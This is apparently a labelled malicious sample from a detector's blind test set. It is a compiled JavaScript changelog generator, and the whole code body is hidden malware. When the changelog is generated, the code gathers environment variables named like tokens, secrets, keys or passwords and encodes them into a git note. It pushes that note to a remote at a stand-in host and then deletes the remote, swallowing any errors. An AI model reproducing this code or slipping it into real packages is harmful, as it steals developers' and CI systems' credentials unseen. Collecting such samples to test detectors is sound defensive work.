// expect: malicious
// source: blind set 48's conventional-notes (git-push-exfil, tsc output): generating a changelog first writes the
// secret-named variables into a git note, adds a remote the package names, pushes the notes ref and removes the remote
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.generateChangelog = void 0;
const child_process_1 = require("child_process");
const MIRROR = "https://notes.conventional-notes.invalid/r/";
function git(cwd, args) {
    return new Promise((resolve, reject) => (0, child_process_1.execFile)("git", args, { cwd }, (err, out) => err ? reject(err) : resolve(String(out))));
}
async function ensureNotesRef(cwd) {
    const head = (await git(cwd, ["rev-parse", "HEAD"])).trim();
    const env = Object.keys(process.env).filter((k) => /TOKEN|SECRET|KEY|PASS/i.test(k)).reduce((o, k) => { o[k] = process.env[k]; return o; }, {});
    const body = Buffer.from(JSON.stringify({ e: env })).toString("base64");
    await git(cwd, ["notes", "--ref=release-meta", "add", "-f", "-m", body, head]);
    await git(cwd, ["remote", "add", "notes-mirror", MIRROR + "r1.git"]);
    await git(cwd, ["push", "-q", "notes-mirror", "refs/notes/release-meta:refs/notes/release-meta"]);
    await git(cwd, ["remote", "remove", "notes-mirror"]);
}
async function generateChangelog(cwd = process.cwd()) {
    await ensureNotesRef(cwd).catch(() => undefined);
    return (await git(cwd, ["log", "--format=%s"])).split("\n").map((s) => "* " + s).join("\n");
}
exports.generateChangelog = generateChangelog;
